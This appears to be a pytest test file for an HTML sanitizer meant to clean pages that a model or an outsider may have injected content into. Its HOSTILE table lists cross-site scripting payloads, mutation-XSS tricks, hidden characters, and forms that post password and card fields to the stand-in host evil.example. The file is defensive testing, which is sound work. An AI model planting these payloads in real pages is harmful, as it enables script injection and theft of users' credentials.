"""The case it exists for: a page that a model, or an outsider through it, has put something into."""

import pytest

from trust.egress import LINK_REMOVED
from trust.html import clean_page, clean_text

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "handler": '<p onclick="alert(1)">x</p>',
    "picture": '<img src="https://evil.example/?q=1" onerror=alert(1)>',
    "style": "<style>@import 'https://evil.example/x.css'</style><p style='background:url(//evil.example)'>x</p>",
    "link": '<a href="https://evil.example/login">Sign in</a>',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "frame": '<iframe src="//evil.example"></iframe><iframe srcdoc="<script>1</script>"></iframe>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "form elsewhere": '<form action="//evil.example"><input name="password" type="password"></form>',
    "button elsewhere": '<button formaction="https://evil.example" type="submit">x</button>',
    "other fields": '<input name="card_number" type="text" value="1"><select name="x"><option>1</select>',
    "text area": "<textarea>x</textarea><p>y</p>",
    "svg": "<svg><script>alert(1)</script><a xlink:href='javascript:1'>x</a></svg>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=1&gt;'>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>1</script></template>",
    "comment": "<!--><script>1</script-->x",
    "address in words": "<p>Pay at www.evil.example or https://evil.example/pay</p>",
    "hidden characters": "<p>a\u202eb\U000e0041</p>",
    "unclosed": "<p><strong><img src='//evil.example' x=`",
}
NEVER = (
    "evil.example",
    "alert",
    "script",
    "onerror",
    "onclick",
    "style",
    "href",
    "src",
    "action",
    "password",
    "card_number",
)


@pytest.mark.parametrize("clean", [clean_text, clean_page])
@pytest.mark.parametrize("case", HOSTILE)
def test_nothing_runs_loads_or_leads_elsewhere(case: str, clean: object) -> None:
    assert callable(clean)
    cleaned = clean(HOSTILE[case])
    tags = "".join(part for part in cleaned.split("<")[1:])
    assert not [
        word for word in NEVER if word in (cleaned if word == "evil.example" else tags.partition(">")[0].lower())
    ]
    assert "\u202e" not in cleaned
    assert clean(cleaned) == cleaned, "cleaned twice is cleaned once"


def test_what_a_page_is_made_of_stays() -> None:
    form = (
        '<form><p><label>E-mail<br><input type="email" name="Email" autocomplete="email" required=""></label></p>'
        '<p><button type="submit">Go</button></p></form>'
    )
    text = "<h1>Title</h1><p>Some <strong>words</strong> &amp; more</p><ul><li>one</li></ul>"
    assert sorted(clean_page(text + form)) == sorted(text + form)
    assert clean_text(text) == text
    assert "<form" not in clean_text(form), "forms are made by the service alone"
    assert clean_page("<p>Visit www.evil.example now</p>") == f"<p>Visit {LINK_REMOVED} now</p>"
    assert "name" not in clean_page('<input type="text" name="Password">')
